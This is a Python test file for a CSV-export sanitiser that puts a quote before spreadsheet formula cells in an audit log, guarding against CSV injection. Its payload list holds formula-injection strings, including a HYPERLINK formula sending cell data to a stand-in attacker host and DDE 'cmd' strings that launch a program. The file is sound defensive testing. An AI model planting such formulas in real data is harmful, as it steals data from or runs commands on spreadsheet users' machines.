"""A CSV export never hands a spreadsheet a formula: cells starting with = + - @ (tab, CR) are neutralised.

Anyone who can put text in the audit log (a comment, a reason, a user id) could otherwise make the
auditor's spreadsheet run ``=HYPERLINK(...)`` or ``=cmd|...`` when the export is opened (OWASP, CSV
injection). The cell gets a leading ``'`` and is shown as text; one ``'`` removed gives the value back.
"""

from __future__ import annotations

import csv
import io

import pytest

from server.audit.export import export
from server.audit.writer import append
from server.csv_safe import neutralise
from server.db import Database
from tests.server.test_audit_verify import entry

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_cell_a_spreadsheet_would_run_is_prefixed_with_a_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Baik", "catatan — ✓", "19860926 201505 1 001", "a=b", ""])
def test_ordinary_text_is_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell


@pytest.mark.parametrize("cell", [*ATTACKS, "'already quoted", "plain"])
def test_removing_one_leading_quote_gives_the_value_back(cell: str) -> None:
    shown = neutralise(cell)
    assert (shown[1:] if shown.startswith("'") else shown) == cell


async def test_the_audit_csv_export_neutralises_every_text_cell_a_user_could_fill(db: Database) -> None:
    async with db.write() as s:
        await append(
            s,
            [
                entry(n, comment=attack, actor=f"@actor{n}", entity_id=f"-{n}", after={"note": attack})
                for n, attack in enumerate(ATTACKS, start=1)
            ],
        )
    out = io.StringIO()
    assert await export(db, out, fmt="csv") == len(ATTACKS)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [r["comment"] for r in rows] == ["'" + a for a in ATTACKS]
    assert all(r["actor"].startswith("'@") and r["entity_id"].startswith("'-") for r in rows)
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
